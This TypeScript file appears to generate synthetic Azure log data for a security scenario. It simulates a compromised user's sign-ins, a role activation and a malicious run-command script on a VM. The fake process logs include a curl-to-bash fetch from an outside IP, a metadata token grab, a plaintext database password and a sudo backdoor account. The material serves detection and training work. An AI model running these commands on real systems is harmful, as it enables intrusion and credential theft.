import type { LoggedRow } from './tenant/serve-log-analytics';
import type { Tenant } from './tenant/tenant';
import type { World } from './world';

export const demoWorkspaceId = '7d1f0c52-3e0b-4c1e-9a35-b1c2d3e4f506';

/** A workspace without the activity log, which gets logs of machines and sign-ins as scenarios are played. */
export function addWorkspace({ state }: Tenant): void {
  state.workspaces.set(demoWorkspaceId, { since: state.now(), mostRows: 10_000, tables: new Map() });
}

/** Adds rows to the workspace, seconds from `at`; drops them if there is none. */
export function logsFrom({ state }: Tenant, at: number) {
  const tables = state.workspaces.get(demoWorkspaceId)?.tables;
  const add = (table: string, second: number, row: LoggedRow) => {
    const TimeGenerated = new Date(at + second * 1000).toISOString();
    tables?.set(table, [...(tables.get(table) ?? []), { TimeGenerated, ...row }]);
  };
  /** A machine that Defender for Endpoint reports on. */
  const device = (DeviceName: string, AzureResourceId: string) => {
    const DeviceId = `device-${DeviceName}`;
    add('DeviceInfo', -3600, { DeviceId, DeviceName, AzureResourceId });
    return {
      add: (table: string, second: number, row: LoggedRow) => add(table, second, { DeviceId, ...row }),
      started: (
        second: number,
        pid: number,
        commandLine: string,
        [parentPid, parent, parentCommandLine = '']: [pid: number, name: string, commandLine?: string],
        AccountName = 'root',
      ) =>
        add('DeviceProcessEvents', second, {
          DeviceId,
          ActionType: 'ProcessCreated',
          ProcessId: pid,
          FileName: commandLine.split(' ')[0]?.split('/').at(-1) ?? '',
          ProcessCommandLine: commandLine,
          AccountName,
          InitiatingProcessId: parentPid,
          InitiatingProcessFileName: parent,
          InitiatingProcessCommandLine: parentCommandLine,
        }),
    };
  };
  return { add, device };
}

/** What Dana's night on vm-pay-01 left in the logs; nothing without a workspace. */
export function logNight(tenant: Tenant, { people, vms }: World, at: number, ip: string): void {
  const { add, device } = logsFrom(tenant, at);
  const { started, add: onDevice } = device('vm-pay-01', vms.pay01);
  const script = '/var/lib/waagent/run-command-handler/download/maintenance/0/script.sh';
  started(-20, 812, '/usr/sbin/cron -f', [1, 'systemd']);
  started(95, 4100, `bash ${script}`, [4090, 'run-command-handler']);
  started(96, 4101, 'curl -fsSL https://203.0.113.99/i.sh', [4100, 'bash']);
  started(96, 4102, 'bash', [4100, 'bash']);
  started(97, 4103, 'curl -s -H Metadata:true http://169.254.169.254/metadata/identity/oauth2/token', [
    4100,
    'bash',
  ]);
  started(98, 4104, 'mysql -h db-pay -u app --password=Sup3r-S3cret! -e "select 1"', [4102, 'bash']);
  started(99, 4105, 'useradd -m -G sudo support2', [4100, 'bash']);
  onDevice('DeviceNetworkEvents', 96, {
    ActionType: 'ConnectionSuccess',
    RemoteIP: '203.0.113.99',
    RemotePort: 443,
    InitiatingProcessId: 4101,
    InitiatingProcessFileName: 'curl',
  });
  onDevice('DeviceLogonEvents', 130, {
    ActionType: 'LogonSuccess',
    LogonType: 'Network',
    AccountName: 'support2',
    RemoteIP: '203.0.113.99',
  });
  const signIn = {
    UserId: people.dana.id,
    AppDisplayName: 'Microsoft Azure CLI',
    ResourceDisplayName: 'Azure Resource Manager',
    IPAddress: ip,
    Location: 'NL',
    LocationDetails: { city: 'Amsterdam', countryOrRegion: 'NL' },
    DeviceDetail: { operatingSystem: 'Linux' },
    ClientAppUsed: 'Mobile Apps and Desktop clients',
    ResultType: '0',
    AuthenticationRequirement: 'singleFactorAuthentication',
    ConditionalAccessStatus: 'notApplied',
  };
  add('SigninLogs', -40 * 60, {
    ...signIn,
    RiskLevelDuringSignIn: 'high',
    RiskEventTypes_V2: '["anonymizedIPAddress"]',
  });
  for (const second of [-46 * 60, -43 * 60])
    add('SigninLogs', second, {
      ...signIn,
      ResultType: '50126',
      ResultDescription: 'Invalid username or password.',
    });
  add('AuditLogs', -35 * 60, {
    OperationName: 'Add member to role completed (PIM activation)',
    Result: 'success',
    ResultReason: 'Urgent fix',
    InitiatedBy: { user: { id: people.dana.id, userPrincipalName: people.dana.login } },
    TargetResources: [{ id: 'role', displayName: 'Virtual Machine Contributor', type: 'Role' }],
  });
}
